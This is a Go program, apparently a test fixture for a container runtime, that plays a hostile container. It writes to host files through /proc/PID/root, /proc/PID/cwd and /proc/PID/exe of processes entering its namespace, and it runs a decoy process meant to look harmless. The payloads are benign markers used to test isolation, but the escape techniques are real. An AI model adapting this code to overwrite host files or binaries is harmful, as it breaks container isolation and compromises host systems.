// Hostfiles is what a hostile container does while an administrator enters it: it waits in its pid namespace for a
// process that has other files than itself, and writes to them, through /proc/PID/root, /proc/PID/cwd and what
// /proc/PID/exe leads to.
//
//	hostfiles MARKER     MARKER is the path of a file of the host, which it overwrites if it gets at it
//
// It runs as process 1 of its pid namespace, with a /proc of that in its root. It says when it is ready. For each line
// of its input it looks at all processes and prints one: how many others it saw, and what it could do so far. After
// the line "watch" it goes on looking, without a pause, until the next line. What it writes to a program is the byte
// that stands there already. Beside it runs one process that may trace nobody, as bait: who looks only at that takes
// the container for harmless.
//
//	hostfiles wait       reads its input to the end
package main

import (
	"bufio"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"syscall"
)

type thief struct {
	marker string
	own    uint64 // the device of its own root
	held   map[[2]uint64]int
	stolen []string
	seen   map[int]bool
}

func init() { runtime.LockOSThread() } // so that the bait is a child of the first thread

func main() {
	switch {
	case filepath.Base(os.Args[0]) == "sh" || os.Args[1] == "wait":
		io.Copy(io.Discard, os.Stdin)
		return
	case os.Args[1] == "bait":
		becomeBait()
	}
	if err := syscall.Unmount("/old", syscall.MNT_DETACH); err != nil { // the root that the container was made from
		fmt.Println(err)
		os.Exit(1)
	}
	bait := exec.Command("/proc/self/exe", "bait")
	bait.Stdout, bait.Stderr = os.Stdout, os.Stderr // there is no /dev/null
	input, err := bait.StdinPipe()
	if err == nil {
		err = bait.Start()
	}
	if err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	defer input.Close()
	t := &thief{marker: os.Args[1], held: map[[2]uint64]int{}, seen: map[int]bool{}}
	var st syscall.Stat_t
	if err := syscall.Stat("/", &st); err != nil {
		fmt.Println(err)
		os.Exit(1)
	}
	t.own = st.Dev
	fmt.Println("ready")
	asked := make(chan string, 1)
	go func() {
		for lines := bufio.NewScanner(os.Stdin); lines.Scan(); {
			asked <- lines.Text()
		}
		os.Exit(0) // whoever asked is gone
	}()
	for line := range asked {
		t.look()
		t.overwrite()
		fmt.Printf("seen=%d stolen=%s\n", len(t.seen), strings.Join(t.stolen, ","))
		for line == "watch" && len(asked) == 0 {
			t.look()
			t.overwrite()
		}
	}
}

// becomeBait leaves CAP_SYS_PTRACE off and waits.
func becomeBait() {
	const prCapBSetDrop, sysPtrace = 24, 19
	runtime.LockOSThread()
	syscall.RawSyscall(syscall.SYS_PRCTL, prCapBSetDrop, sysPtrace, 0)
	fmt.Println(syscall.Exec("/proc/self/exe", []string{"hostfiles", "wait"}, nil))
	os.Exit(1)
}

// look tries every process but itself.
func (t *thief) look() {
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == os.Getpid() {
			continue
		}
		t.seen[pid] = true
		dir := "/proc/" + e.Name()
		t.write("root", dir+"/root"+t.marker)
		t.write("cwd", dir+"/cwd/"+filepath.Base(t.marker))
		if fd, err := syscall.Open(dir+"/exe", syscall.O_RDONLY|syscall.O_CLOEXEC, 0); err == nil {
			t.hold(fd)
		}
	}
}

func (t *thief) write(how, path string) {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_TRUNC, 0)
	if err != nil {
		return
	}
	defer f.Close()
	if _, err := f.WriteString("stolen through " + how); err == nil {
		t.got(how)
	}
}

func (t *thief) got(how string) {
	if !slices.Contains(t.stolen, how) {
		t.stolen = append(t.stolen, how)
	}
}

// hold keeps a program open that is not one of its own: while it runs, nobody can write to it.
func (t *thief) hold(fd int) {
	var st syscall.Stat_t
	if syscall.Fstat(fd, &st) != nil || st.Dev == t.own {
		syscall.Close(fd)
		return
	}
	key := [2]uint64{st.Dev, st.Ino}
	if _, ok := t.held[key]; ok || len(t.held) > 100 {
		syscall.Close(fd)
		return
	}
	t.held[key] = fd
}

func (t *thief) overwrite() {
	for _, fd := range t.held {
		w, err := syscall.Open("/proc/self/fd/"+strconv.Itoa(fd), syscall.O_WRONLY|syscall.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		b := make([]byte, 1)
		if n, _ := syscall.Pread(fd, b, 0); n == 1 {
			if n, err := syscall.Pwrite(w, b, 0); n == 1 && err == nil {
				t.got("exe")
			}
		}
		syscall.Close(w)
	}
}
